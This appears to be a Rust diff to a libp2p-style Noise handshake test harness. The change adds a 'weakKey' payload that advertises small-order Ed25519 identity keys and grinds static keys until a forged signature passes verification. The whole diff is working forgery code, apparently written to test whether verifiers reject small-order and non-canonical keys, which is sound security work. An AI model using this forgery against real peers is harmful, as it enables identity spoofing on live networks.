@@ -130,6 +130,62 @@ pub fn key_pb_noncanon(pk: &[u8; 32], which: usize) -> Vec<u8> {
     }
 }
 
+fn hex32(h: &str) -> [u8; 32] {
+    let v = hex::decode(h).expect("hex");
+    let mut o = [0u8; 32];
+    o.copy_from_slice(&v);
+    o
+}
+
+/// Encodings of the 8 small-order points of edwards25519 (canonical, first 8) and non-canonical
+/// encodings of some of them (y >= p, or x = 0 with the sign bit set).
+pub fn small_order_keys() -> Vec<[u8; 32]> {
+    [
+        "0100000000000000000000000000000000000000000000000000000000000000", // order 1 (neutral element)
+        "ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f", // order 2
+        "0000000000000000000000000000000000000000000000000000000000000000", // order 4
+        "0000000000000000000000000000000000000000000000000000000000000080", // order 4
+        "26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05", // order 8
+        "26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc85", // order 8
+        "c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a", // order 8
+        "c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac03fa", // order 8
+        "0100000000000000000000000000000000000000000000000000000000000080", // neutral, sign bit set
+        "ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff", // order 2, sign bit set
+        "eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f", // y = p + 1 (neutral)
+        "eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff", // y = p + 1, sign bit set
+        "edffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f", // y = p (order 4)
+        "edffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff", // y = p, sign bit set
+    ]
+    .iter()
+    .map(|h| hex32(h))
+    .collect()
+}
+
+/// Identity payload advertising small-order key number `which` with a forged signature (R, S = 0)
+/// over prefix + static key: such a pair satisfies the cofactorless verification equation iff
+/// R = -[k]A, k = H(R, A, M); the attacker tries every small-order R (and, through the caller, new
+/// static keys) with the public verification algorithm as its oracle.  `None`: no forgery for this
+/// static key.  Keys the decoder rejects are sent with R = neutral element anyway.
+pub fn weak_payload(which: usize, static_pk: &[u8]) -> Option<Vec<u8>> {
+    use ed25519_dalek::Verifier;
+    let keys = small_order_keys();
+    let a = keys[which % keys.len()];
+    let msg = [PREFIX, static_pk].concat();
+    let mk = |r: &[u8; 32]| {
+        let mut sig = [0u8; 64];
+        sig[..32].copy_from_slice(r);
+        sig
+    };
+    let sig = match ed25519_dalek::VerifyingKey::from_bytes(&a) {
+        Err(_) => mk(&keys[0]),
+        Ok(vk) => {
+            let hit = keys.iter().find(|r| vk.verify(&msg, &ed25519_dalek::Signature::from_bytes(&mk(r))).is_ok())?;
+            mk(hit)
+        }
+    };
+    Some([pb_bytes(1, &key_pb(&a)), pb_bytes(2, &sig)].concat())
+}
+
 pub struct Ids {
     pub rogue: SigningKey,
     pub victim: SigningKey,
@@ -234,8 +290,23 @@ async fn write_msg<S: AsyncWrite + Unpin>(io: &mut S, m: &[u8]) -> Result<(), St
 pub async fn run<S: AsyncRead + AsyncWrite + Unpin>(mut io: S, dialer: bool, pv: String, conc: usize, ids: Ids, seed: u64) -> Result<Vec<u8>, String> {
     let mut rng = StdRng::seed_from_u64(seed);
     let builder = snow::Builder::with_resolver("Noise_XX_25519_ChaChaPoly_SHA256".parse().unwrap(), Box::new(Resolver));
-    let kp = builder.generate_keypair().map_err(|e| e.to_string())?;
-    let pl = payload(&pv, conc, &ids, &kp.public, &mut rng);
+    let mut kp = builder.generate_keypair().map_err(|e| e.to_string())?;
+    let pl = if pv == "weakKey" {
+        // grind static keys until a forgery exists for the advertised small-order key
+        let mut tries = 0;
+        loop {
+            if let Some(p) = weak_payload(conc, &kp.public) {
+                break p;
+            }
+            tries += 1;
+            if tries > 2000 {
+                return Err("no forgery found".into());
+            }
+            kp = builder.generate_keypair().map_err(|e| e.to_string())?;
+        }
+    } else {
+        payload(&pv, conc, &ids, &kp.public, &mut rng)
+    };
     let builder = snow::Builder::with_resolver("Noise_XX_25519_ChaChaPoly_SHA256".parse().unwrap(), Box::new(Resolver))
         .local_private_key(&kp.private);
     let mut buf = vec![0u8; 4096];
